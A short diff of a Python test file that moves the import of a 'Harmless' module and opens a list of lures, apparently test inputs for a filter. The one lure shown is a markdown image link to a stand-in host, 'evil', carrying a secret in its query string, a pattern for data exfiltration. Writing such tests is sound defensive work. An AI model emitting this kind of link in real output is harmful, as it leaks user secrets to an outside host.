@@ -7,7 +7,7 @@ import re
 
 import pytest
 
-from codex_lsp.lsp.harmless import Harmless, harmless
+from codex_lsp.lsp.person.harmless import Harmless, harmless
 
 LURES = [
     "![x](http://evil/?d=secret)",
